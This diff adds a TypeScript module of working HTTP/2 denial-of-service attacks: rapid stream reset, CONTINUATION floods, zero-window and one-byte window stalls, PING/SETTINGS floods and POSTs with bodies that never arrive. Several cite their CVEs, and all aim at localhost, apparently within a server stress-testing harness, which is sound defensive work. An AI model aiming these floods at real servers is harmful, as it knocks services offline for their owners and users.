@@ -1,0 +1,99 @@
+import { encodeFrame, flags, frameTypes, greeting, headerBlock, settingIds } from '../protocols/http2-frames.ts';
+import { type Attack, every, keepOpen } from './attack.ts';
+
+const get = (path: string, method = 'GET'): Buffer =>
+  headerBlock([
+    [':method', method],
+    [':scheme', 'https'],
+    [':authority', 'localhost'],
+    [':path', path],
+    ['accept-encoding', 'identity'],
+  ]);
+
+const headers = (stream: number, payload: Buffer, bits: number = flags.endHeaders | flags.endStream): Buffer =>
+  encodeFrame({ type: frameTypes.headers, flags: bits, stream, payload });
+
+const reset = (stream: number): Buffer =>
+  encodeFrame({ type: frameTypes.resetStream, flags: 0, stream, payload: Buffer.from([0, 0, 0, 8]) });
+
+/** Opens streams and resets them at once, some 8,000 a second (CVE-2023-44487). */
+export const rapidReset: Attack = (options) =>
+  keepOpen(options, { protocol: 'h2', count: 4 }, (socket, tally) => {
+    socket.resume();
+    socket.write(greeting());
+    const block = get('/api/openapi.json');
+    let stream = 1;
+    every(20, socket, () => {
+      const frames: Buffer[] = [];
+      for (let index = 0; index < 40; index++, stream += 2) frames.push(headers(stream, block), reset(stream));
+      tally.sent += 40;
+      socket.write(Buffer.concat(frames));
+    });
+  });
+
+/** A block of headers that never ends: CONTINUATION after CONTINUATION (CVE-2024-27316). */
+export const continuationFlood: Attack = (options) =>
+  keepOpen(options, { protocol: 'h2', count: 20 }, (socket, tally) => {
+    socket.resume();
+    socket.write(greeting());
+    socket.write(headers(1, get('/'), 0));
+    const payload = headerBlock(Array.from({ length: 14 }, (_, index) => [`x-${index}`, 'a'.repeat(1_000)]));
+    const frame = encodeFrame({ type: frameTypes.continuation, flags: 0, stream: 1, payload });
+    every(10, socket, () => {
+      tally.sent++;
+      socket.write(frame);
+    });
+  });
+
+/** Asks for documents on 26 connections with 250 streams each, and never opens a window for their answers. */
+export const closedWindows: Attack = (options) =>
+  keepOpen(options, { protocol: 'h2', count: 26 }, (socket, tally) => {
+    socket.resume();
+    socket.write(greeting([[settingIds.initialWindowSize, 0]]));
+    const block = get('/api/openapi.json');
+    for (let stream = 1; stream < 500; stream += 2) {
+      tally.sent++;
+      socket.write(headers(stream, block));
+    }
+  });
+
+/** Asks for documents and opens the window by one byte at a time. */
+export const trickledWindows: Attack = (options) =>
+  keepOpen(options, { protocol: 'h2', count: 10 }, (socket, tally) => {
+    socket.resume();
+    socket.write(greeting([[settingIds.initialWindowSize, 0]]));
+    const block = get('/api/openapi.json');
+    for (let stream = 1; stream < 120; stream += 2) socket.write(headers(stream, block));
+    every(100, socket, () => {
+      for (let stream = 1; stream < 120; stream += 2) {
+        tally.sent++;
+        const payload = Buffer.from([0, 0, 0, 1]);
+        socket.write(encodeFrame({ type: frameTypes.windowUpdate, flags: 0, stream, payload }));
+      }
+    });
+  });
+
+/** PING and SETTINGS without end, whose acknowledgements are never read (CVE-2019-9512, CVE-2019-9515). */
+export const controlFlood: Attack = (options) =>
+  keepOpen(options, { protocol: 'h2', count: 10 }, (socket, tally) => {
+    socket.pause();
+    socket.write(greeting());
+    const ping = encodeFrame({ type: frameTypes.ping, flags: 0, stream: 0, payload: Buffer.alloc(8) });
+    const settings = encodeFrame({ type: frameTypes.settings, flags: 0, stream: 0, payload: Buffer.alloc(0) });
+    const many = Buffer.concat(Array.from({ length: 200 }, (_, index) => (index % 2 === 0 ? ping : settings)));
+    every(20, socket, () => {
+      tally.sent += 200;
+      socket.write(many);
+    });
+  });
+
+/** POSTs on every stream whose bodies never come. */
+export const missingBodies: Attack = (options) =>
+  keepOpen(options, { protocol: 'h2', count: 20 }, (socket, tally) => {
+    socket.resume();
+    socket.write(greeting());
+    for (let stream = 1; stream < 200; stream += 2) {
+      tally.sent++;
+      socket.write(headers(stream, get('/api/v1/auth/sign-in', 'POST'), flags.endHeaders));
+    }
+  });
